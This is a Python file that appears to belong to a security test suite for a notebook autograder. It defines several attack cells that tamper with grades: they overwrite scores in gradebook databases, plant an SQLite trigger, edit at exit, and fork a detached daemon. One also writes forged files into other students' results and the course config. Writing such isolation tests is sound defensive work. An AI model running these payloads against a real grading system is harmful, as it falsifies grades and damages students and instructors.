"""The gradebook and the results edited by a submission."""

from attacks.model import Attack, Look, any_of, disturbed, first, scored

_EDIT = """\
import glob, sqlite3
def edit(times=1):
    import time
    for _ in range(times):
        for path in {*glob.glob("@COURSE@/*.db"), *glob.glob("../../../*.db")}:
            try:
                book = sqlite3.connect(path, timeout=2)
                book.execute("UPDATE grade SET manual_score = 5")
                book.commit()
                book.close()
            except sqlite3.Error: pass
        if times > 1: time.sleep(0.25)
"""


def _files_forged(look: Look) -> bool:
    """Tell whether a result or an autograded notebook holds the attack's mark."""
    places = [*look.course.glob("results/**/*"), *look.course.glob("autograded/*/*/forged*")]
    places += [*look.course.glob("*.py"), *look.course.glob("source/**/*")]
    return any(
        f"<{look.id}>" in path.read_text("utf-8", "replace") for path in places if path.is_file()
    )


ATTACKS = (
    Attack(
        "manual-score",
        "成績データベースに手で付けた点を書く",
        "write points given by hand into gradebook.db",
        any_of(scored, disturbed),
        plain=True,
        alone=True,
        cells=first(f"{_EDIT}\nedit()"),
    ),
    Attack(
        "trigger",
        "成績データベースに、点を満点に変える仕掛けを残す",
        "leave a trigger in gradebook.db that turns points into full ones",
        any_of(scored, disturbed),
        plain=True,
        alone=True,
        cells=first("""
import glob, sqlite3
for path in {*glob.glob("@COURSE@/*.db"), *glob.glob("../../../*.db")}:
    try:
        book = sqlite3.connect(path, timeout=2)
        book.execute("CREATE TRIGGER IF NOT EXISTS t AFTER UPDATE ON grade WHEN new.auto_score = 0 "
                     "BEGIN UPDATE grade SET auto_score = 3 WHERE rowid = new.rowid; END")
        book.commit(); book.close()
    except sqlite3.Error: pass
"""),
    ),
    Attack(
        "at-exit",
        "終了時に成績データベースを書き換える",
        "edit gradebook.db when the process ends",
        any_of(scored, disturbed),
        plain=True,
        alone=True,
        cells=first(f"{_EDIT}\nimport atexit\natexit.register(edit)"),
    ),
    Attack(
        "late-daemon",
        "別のプロセスが残り、採点の後で成績を書き換える",
        "a process stays behind and edits gradebook.db while others are graded",
        any_of(scored, disturbed),
        plain=True,
        alone=True,
        cells=first(f"""
{_EDIT}
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try: edit(40)
        finally: os._exit(0)
    os._exit(0)
"""),
    ),
    Attack(
        "result-files",
        "ほかの人の結果ファイルと採点の設定に書く",
        "write into other people's results and into the course's settings",
        any_of(_files_forged, disturbed),
        plain=True,
        alone=True,
        cells=first("""
import glob, os
for folder in (*glob.glob("@COURSE@/autograded/*/*"), *glob.glob("@COURSE@/results/*/*"), *glob.glob("@COURSE@/source/*"), "@COURSE@"):
    try:
        with open(os.path.join(folder, "forged.py"), "w") as file: file.write("# <@ID@>")
    except OSError: pass
try:
    with open("@COURSE@/nbgrader_config.py", "a") as file: file.write("\\n# <@ID@>\\n")
except OSError: pass
"""),
    ),
)
